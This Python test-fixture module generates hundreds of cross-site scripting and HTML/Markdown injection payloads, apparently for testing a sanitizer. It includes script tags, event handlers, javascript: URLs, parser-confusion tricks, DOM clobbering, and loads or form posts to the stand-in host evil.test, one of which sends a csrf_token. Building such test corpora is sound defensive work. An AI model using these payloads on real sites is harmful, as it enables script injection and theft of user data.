"""Hostile texts of our own: each tries to run ``__xss()`` or to load something from evil.test.

Generated from parts, so that each idea comes in several spellings. ``ALL`` is fired at every field.
"""

from __future__ import annotations

from itertools import product

EVIL = "http://evil.test/x"
RUN = "__xss()"
HANDLERS = (
    "onerror onload onclick onmouseover onfocus onpointerenter ontoggle onbegin onanimationstart oncopy "
    "onauxclick onbeforetoggle onscrollend oncontentvisibilityautostatechange"
).split()
SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "java&#x0A;script:{}",
    "javascript&colon;{}", "&#106;avascript:{}", "&#x6a;&#x61;vascript:{}", "javascript\x01:{}", "\x01javascript:{}",
    "javascript://%0a{}", "javascript:/*--></title></style></textarea></script>*/{}", "vbscript:{}",
    "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload={}>", "feed:javascript:{}", "view-source:javascript:{}", "blob:http://evil.test/1",
    "file:///etc/passwd#{}", "//evil.test/{}", "/\\evil.test/{}", "http:evil.test", "java%0ascript:{}",
    "javascript:void({})", "jar:http://evil.test!/{}", "ｊavascript:{}", "javascript​:{}",
)  # fmt: skip


def scripts() -> list[str]:
    """Script elements in the spellings that parsers forgive."""
    return [
        f"<script>{RUN}</script>",
        f"<ScRiPt >{RUN}</sCrIpT\t>",
        f"<script/x>{RUN}</script>",
        f"<script\n>{RUN}</script>",
        f"<script type=module>{RUN}</script>",
        f"<script src={EVIL}.js></script>",
        f"<script src=//evil.test/x.js></script>",
        f"<script src=data:text/javascript,{RUN}></script>",
        f"<<script>{RUN}//<</script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f'"><script>{RUN}</script>',
        f"'><script>{RUN}</script>",
        f"--><script>{RUN}</script>",
        f"]]><script>{RUN}</script>",
        f"</title><script>{RUN}</script>",
        f"</textarea><script>{RUN}</script>",
        f"</style><script>{RUN}</script>",
        f"</script><script>{RUN}</script>",
        f"</noscript><script>{RUN}</script>",
        f"</template><script>{RUN}</script>",
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><script href=data:text/javascript,{RUN} /></svg>",
        f"<svg><script>/*<i>*/{RUN}</script></svg>",
        f"<math><script>{RUN}</script></math>",
        f"<table><script>{RUN}</script></table>",
        f"<script>eval(atob('X194c3MoKQ=='))</script>",
        "<script>\\u005f\\u005fxss()</script>",
        "<script>setTimeout('__xss()',0)</script>",
        "<script>Function('__xss()')()</script>",
        "<script>window['__x'+'ss']()</script>",
        "<script>alert(1)</script>",
        "<script>confirm`1`</script>",
        f"<script>{RUN}",
        f"&lt;script&gt;{RUN}&lt;/script&gt;<script>{RUN}</script>",
        f"<!--><script>{RUN}</script>-->",
        f"<!-- --!><script>{RUN}</script>",
        f"<![CDATA[<script>{RUN}</script>]]>",
        f"<?xml ?><script>{RUN}</script>",
        f"<!DOCTYPE x [<!ENTITY e '<script>{RUN}</script>'>]>&e;",
        f"<%<script>{RUN}</script>%>",
        f"\ufeff<script>{RUN}</script>",
        f"<ſcript>{RUN}</ſcript><script>{RUN}</script>",
    ]  # fmt: skip


def handlers() -> list[str]:
    """Event handlers on elements that fire them, and spellings of the attribute."""
    first = [
        f"<img src=x onerror={RUN}>",
        f"<svg onload={RUN}>",
        f"<svg/onload={RUN}>",
        f"<body onload={RUN}>",
        f"<input autofocus onfocus={RUN}>",
        f"<details open ontoggle={RUN}>x",
        f"<video><source onerror={RUN}></video>",
        f"<audio src=x onerror={RUN}>",
        f"<video src=x onerror={RUN}></video>",
        f"<object data=x onerror={RUN}>",
        f"<iframe onload={RUN}></iframe>",
        f"<style onload={RUN}></style>",
        f"<link rel=stylesheet href=x onerror={RUN}>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><set onbegin={RUN} attributeName=x to=0>",
        f"<select autofocus onfocus={RUN}></select>",
        f"<textarea autofocus onfocus={RUN}></textarea>",
        f"<marquee onstart={RUN}>x</marquee>",
        f"<math><mi onclick={RUN}>x</mi></math>",
        f"<a id=x tabindex=1 onfocus={RUN} autofocus>x</a>",
        f"<div contenteditable autofocus onfocus={RUN}>x</div>",
        f"<button popovertarget=p onclick={RUN}>x</button><div popover id=p onbeforetoggle={RUN}>y</div>",
        f"<dialog open onfocus={RUN} autofocus tabindex=0>x</dialog>",
    ]
    spelled = [
        f"<img src=x OnErRoR={RUN}>",
        f"<img src=x onerror\n=\n{RUN}>",
        f"<img src=x onerror\x0c={RUN}>",
        f"<img/src=x/onerror={RUN}>",
        f"<img src=x onerror='{RUN}'>",
        f'<img src=x onerror="{RUN}">',
        f"<img src=x onerror=`{RUN}`>",
        "<img src=x onerror=&#95;&#95;xss()>",
        "<img src=x onerror=&lowbar;&lowbar;xss&lpar;&rpar;>",
        f"<img src=`x` onerror={RUN}>",
        f'<img src="x`` onerror={RUN}" onerror={RUN}>',
        f"<img src=x:x onerror={RUN}//>",
        f"<img src=x onerror={RUN} <b>",
        f"<img src=x onerror={RUN}",
        f'<img """><img src=x onerror={RUN}>">',
        f'" onmouseover={RUN} x="',
        f"' onfocus={RUN} autofocus x='",
        f'" autofocus onfocus={RUN} tabindex=1 x="',
        f'x" onerror={RUN} src="x',
        f'"><img src=x onerror={RUN}>',
        f"'><img src=x onerror={RUN}>",
        f"--><img src=x onerror={RUN}>",
        f"</p><img src=x onerror={RUN}><p>",
        f"<b onmouseover={RUN}>hover</b>",
        f"<x onclick={RUN}>custom</x>",
        f"<image src=x onerror={RUN}>",
        f"<isindex type=image src=x onerror={RUN}>",
        f"<img src=x onerror=import('{EVIL}.js')>",
        f"<img src=x onerror=alert(1)>",
    ]
    every = [
        f"<{tag} {handler}={RUN} src=x href=x tabindex=1>x</{tag}>"
        for tag, handler in product(("b", "a", "svg", "img"), HANDLERS)
    ]
    return first + spelled + every


def links() -> list[str]:
    """Addresses that run or load, in HTML and in each of Markdown's notations."""
    found = []
    for n, scheme in enumerate(SCHEMES):
        address = scheme.format(RUN)
        plain = address.replace("\n", "").replace("\t", "")
        found += [
            f'<a href="{address}">l{n}</a>',
            f"[m{n}](<{plain}>)",
            f"[r{n}][{n}]\n\n[{n}]: <{plain}>",
            f"<{plain}>",
            f"![i{n}](<{plain}>)",
        ]
    found += [f"[p{n}]({scheme.format(RUN)})" for n, scheme in enumerate(SCHEMES[:10])]
    return found


def markdown() -> list[str]:
    """What a Markdown renderer may be talked into."""
    return [
        f'[a](http://evil.test "t\\" onmouseover={RUN} x=\\"")',
        f"[a](http://evil.test 't' onmouseover={RUN})",
        f'![a" onerror={RUN} x="](x)',
        f"![a](http://evil.test/x.png)",
        f'![a](x"onerror={RUN})',
        f"[![a](http://evil.test/y.png)](javascript:{RUN})",
        f"[a](javascript:{RUN} 'x')",
        f"[a]( javascript:{RUN})",
        f"[a](&#106;avascript:{RUN})",
        f"[a](\\javascript:{RUN})",
        f"[<img src=x onerror={RUN}>](http://evil.test)",
        f"[a](<javascript:{RUN}>)",
        f"<javascript:{RUN}>",
        f"<http://evil.test/\"onmouseover={RUN}>",
        f"http://evil.test/\"onmouseover={RUN}",
        f"http://evil.test/<script>{RUN}</script>",
        f"`<script>{RUN}</script>`<script>{RUN}</script>",
        f"```\n</code></pre><script>{RUN}</script>\n```",
        f"```<img src=x onerror={RUN}>\nx\n```",
        f'```"><img/src=x/onerror={RUN}>\nx\n```',
        f"~~~ {{.x onclick={RUN}}}\nx\n~~~",
        f"    </code></pre><script>{RUN}</script>",
        f"> <img src=x onerror={RUN}>",
        f"- <svg onload={RUN}>",
        f"1. <svg onload={RUN}>",
        f"# <svg onload={RUN}>",
        f"| <svg onload={RUN}> | b |\n| --- | --- |\n| <img src=x onerror={RUN}> | y |",
        f"| a |\n| :--\" onload={RUN} |\n| b |",
        f"[x]: javascript:{RUN}\n\n[x]",
        f"[x]: http://evil.test '\"><img src=x onerror={RUN}>'\n\n[x]",
        f"*<img src=x onerror={RUN}>*",
        f"**a<svg onload={RUN}>**",
        f"~~<svg onload={RUN}>~~",
        f"\\<img src=x onerror={RUN}>",
        f"&lt;img src=x onerror={RUN}&gt;<img src=x onerror={RUN}>",
        f"a\n===\n<svg onload={RUN}>",
        f"<http://evil.test/?a=<script>{RUN}</script>>",
        f"<a@evil.test\" onclick={RUN}>",
        f"mailto:a@evil.test?subject=<script>{RUN}</script>",
        f"[a](mailto:a@evil.test?x=\"onclick={RUN})",
        f"[^1]\n\n[^1]: <svg onload={RUN}>",
        f":smile\"onerror={RUN}:",
        f"$$<svg onload={RUN}>$$",
        f"[a](http://[evil.test\"onclick={RUN})",
        f"[\u202ea](javascript:{RUN})",
        f"<a href=http://evil.test ping=http://evil.test/p target=_blank>x</a>",
        f"www.evil.test/\"onmouseover={RUN}",
        f"a@b.test<img/src=x/onerror={RUN}>",
    ]  # fmt: skip


def markup() -> list[str]:
    """Elements that load, style, frame, submit, redirect or rename, and parsers that disagree."""
    return [
        f"<meta http-equiv=refresh content='0;url={EVIL}'>",
        f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
        "<meta http-equiv=Set-Cookie content='a=b'>",
        "<meta name=referrer content=unsafe-url>",
        "<base href=http://evil.test/>",
        "<base target=_blank href=//evil.test/>",
        f"<link rel=stylesheet href={EVIL}.css>",
        f"<link rel=preload as=image href={EVIL}.png>",
        f"<link rel=dns-prefetch href=//evil.test>",
        f"<link rel=import href={EVIL}>",
        f"<style>@import '{EVIL}.css';</style>",
        f"<style>*{{background:url({EVIL}.png)}}</style>",
        f"<style>body{{display:none}}</style>",
        f"<p style='background:url({EVIL}.png)'>x</p>",
        "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
        f"<p style=\"width:expression({RUN})\">x</p>",
        f"<img src={EVIL}.png>",
        f"<img srcset='{EVIL}.png 1x'>",
        f"<picture><source srcset={EVIL}.png><img src={EVIL}.png></picture>",
        f"<video poster={EVIL}.png src={EVIL}.mp4 autoplay>",
        f"<audio src={EVIL}.mp3 autoplay>",
        f"<embed src={EVIL}>",
        f"<embed src=javascript:{RUN}>",
        f"<object data={EVIL}></object>",
        f"<object data=javascript:{RUN}></object>",
        f"<object data='data:text/html,<script>{RUN}</script>'></object>",
        f"<applet code={EVIL}>",
        f"<iframe src={EVIL}></iframe>",
        f"<iframe src=javascript:{RUN}></iframe>",
        f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
        f"<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></iframe>",
        f"<frameset onload={RUN}><frame src={EVIL}></frameset>",
        f"<form action={EVIL}><input name=csrf_token><button>Go on</button></form>",
        f"<form id=f></form><button form=f formaction=javascript:{RUN}>x</button>",
        f"<form action=javascript:{RUN}><input type=submit></form>",
        f"<input type=image src={EVIL}.png>",
        f"<isindex action=javascript:{RUN}>",
        f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}/>#x'/></svg>",
        f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
        f"<svg><image href={EVIL}.png /></svg>",
        f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
        f"<svg><style><img src=x onerror={RUN}></style></svg>",
        f"<svg><title><img src=x onerror={RUN}></title></svg>",
        f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
        f"<math href=javascript:{RUN}>x</math>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
        f"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror={RUN}>\">",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
        f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
        f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
        f"<noembed><img title=\"</noembed><img src onerror={RUN}>\"></noembed>",
        f"<xmp><p title=\"</xmp><svg/onload={RUN}>\">",
        f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
        f"<plaintext><img src=x onerror={RUN}>",
        f"<template><img src=x onerror={RUN}></template>",
        f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
        f"<select><template><img src=x onerror={RUN}></template></select>",
        f"<select><style></select><img src=x onerror={RUN}>",
        f"<option><style></option></select><img src=x onerror={RUN}></style></option>",
        f"<table><td><svg><desc><td><img src=x onerror={RUN}></td></desc></svg></td></table>",
        f"<a href=\"x\" title=\"a\nb<img src=x onerror={RUN}>\">x</a><img src=x onerror={RUN}>",
        f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
        f"<!---><img src=x onerror={RUN}>-->",
        f"<comment><img src=\"</comment><img src=x onerror={RUN}>\">",
        f"<![><img src=\"]><img src=x onerror={RUN}//\">",
        f"<b <script>{RUN}</script>0",
        f"<div id=csrf_token><a id=elements name=submit href=javascript:{RUN}>x</a></div>",
        "<form id=autosave name=forms><input name=elements><input name=dataset></form>",
        "<img name=body><img name=cookie><a id=location href=http://evil.test>x</a>",
        "<a id=__proto__><a id=constructor name=prototype>x</a>",
        f"<a href='\x0bjavascript:{RUN}'>x</a>",
        f"<a href='  \u2028javascript:{RUN}'>x</a>",
        f"<img src\u00a0=x onerror\u00a0={RUN}><img src=x onerror={RUN}>",
        f"<\u0130mg src=x onerror={RUN}>",
        f"＜script＞{RUN}＜/script＞",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        f"\u2028<img src=x onerror={RUN}>",
        f"<keygen autofocus onfocus={RUN}>",
        f"<portal src={EVIL}></portal>",
        f"<fencedframe src={EVIL}></fencedframe>",
        f"<blockquote cite=javascript:{RUN}>x</blockquote>",
        f"<ins cite={EVIL}>x</ins>",
        f"<table background={EVIL}.png><td background={EVIL}.png>x</table>",
        f"<body background={EVIL}.png>",
        f"<bgsound src={EVIL}>",
        f"<layer src={EVIL}></layer>",
        f"<a href=x ping={EVIL}>x</a>",
        "{{7*7}}<img src=x onerror=__xss()>{% raw %}",
        "${__xss()}#{__xss()}<%= __xss() %>",
        "{{constructor.constructor('__xss()')()}}",
    ]  # fmt: skip


ALL: tuple[str, ...] = tuple(dict.fromkeys([*scripts(), *handlers(), *links(), *markdown(), *markup()]))
LINES: tuple[str, ...] = tuple(one for one in ALL if len(one) <= 110 and "\n" not in one)
